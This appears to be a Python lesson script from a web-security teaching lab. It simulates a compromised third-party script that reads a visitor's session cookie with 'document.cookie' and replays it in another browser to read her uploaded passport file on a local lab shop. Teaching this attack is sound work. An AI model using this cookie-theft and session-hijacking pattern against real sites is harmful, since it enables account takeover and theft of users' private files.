"""A script in the page reads the session cookie and sends it away. The thief goes on as that visitor.

The shop loads a script of a company that counts visitors. A thief has changed the script at its source. So it runs as
a part of the page, and no policy stops it: the shop itself has let it in.
"""

from __future__ import annotations

from tools.lessons.lab import Lab

SECRET = b"Passport no. C01X00T47, Alice Miller\n"
SCRIPT = "document.cookie"


def attack(lab: Lab) -> str:
    """Return what was stolen; "" for nothing."""
    with lab.serve() as shop:
        alice = shop.member()
        alice.upload("passport.txt", "text/plain", SECRET)
        print("Alice has stored a file: passport.txt.")
        with lab.browser(alice) as page:
            page.goto(f"{shop.url}/uploads")
            loot = page.evaluate(SCRIPT)
            print(f"The script reads {SCRIPT}, and gets: {loot[:60] or 'nothing'}")
            if not loot:
                return ""
            print("The thief puts it into his own browser, and opens /uploads.")
            name, _, value = loot.partition("=")
            page.context.clear_cookies()  # so this is his browser now
            page.context.add_cookies([{"name": name, "value": value, "url": shop.url, "secure": True}])
            page.goto(f"{shop.url}/uploads")
            page.evaluate("scrollTo(0, document.body.scrollHeight)")
        thief = shop.visitor()
        listed = thief.get("/uploads", Cookie=loot, Accept="application/json").json().get("files", [])
        content = thief.get(f"/uploads/{listed[0]['id']}", Cookie=loot).text if listed else ""
    return f"The thief has read Alice's passport.txt: {content}" if content else ""
